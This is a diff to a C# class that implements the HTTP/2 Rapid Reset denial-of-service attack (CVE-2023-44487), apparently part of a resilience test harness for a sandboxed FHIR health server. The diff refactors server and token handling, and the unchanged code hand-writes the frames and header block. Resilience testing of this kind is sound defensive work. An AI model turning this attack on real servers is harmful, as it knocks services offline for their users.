@@ -2,6 +2,7 @@ using System.Buffers.Binary;
 using System.Collections.Concurrent;
 using System.Net.Security;
 using System.Text;
+using CpIs.Testing;
 
 namespace CpIs.Faults.Attacks;
 
@@ -9,7 +10,7 @@ namespace CpIs.Faults.Attacks;
 /// HTTP/2 streams that ask for a child and are reset at once (CVE-2023-44487), as fast as one connection takes them.
 /// Frames are written by hand: https://www.rfc-editor.org/rfc/rfc9113.html
 /// </summary>
-internal sealed class RapidReset(ServerSeat seat) : Attack(seat)
+internal sealed class RapidReset(ServerStart server) : Attack(server)
 {
     private const int StreamsPerWrite = 10;
 
@@ -27,12 +28,9 @@ internal sealed class RapidReset(ServerSeat seat) : Attack(seat)
     /// <summary>ENHANCE_YOUR_CALM.</summary>
     private const int Calm = 0xb;
 
-    private readonly Tokens tokens = new();
     private readonly ConcurrentBag<int> cutAfter = [];
     private int told;
     private int stood;
-
-    public override string Name => "rapid reset";
 
     public override string Words => Text($"{Attackers} connections at a time, {cutAfter.Count} cut off after ")
         + Text($"{cutAfter.DefaultIfEmpty(0).Average():0} streams on average, {told} told ENHANCE_YOUR_CALM");
@@ -47,7 +45,7 @@ internal sealed class RapidReset(ServerSeat seat) : Attack(seat)
 
     protected override async Task TryAsync(CancellationToken end)
     {
-        var headers = Headers((await tokens.OfAsync(Seat.Process.Client, Seat.Address, "sandbox-ed-clinician"))
+        var headers = Headers((await Tokens.OfAsync(Http, Server.Address, "sandbox-ed-clinician"))
             .ToString());
         await using var stream = await ConnectAsync(SslApplicationProtocol.Http2, end);
         await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), end);
@@ -93,7 +91,7 @@ internal sealed class RapidReset(ServerSeat seat) : Attack(seat)
         block.WriteByte(0x82);
         block.WriteByte(0x87);
         Literal(block, [0x04], "/FHIR/R4/Flag?patient=9990000018");
-        Literal(block, [0x01], Seat.Address.Authority);
+        Literal(block, [0x01], Server.Address.Authority);
         Literal(block, [0x0f, 0x08], token);
         return block.ToArray();
     }
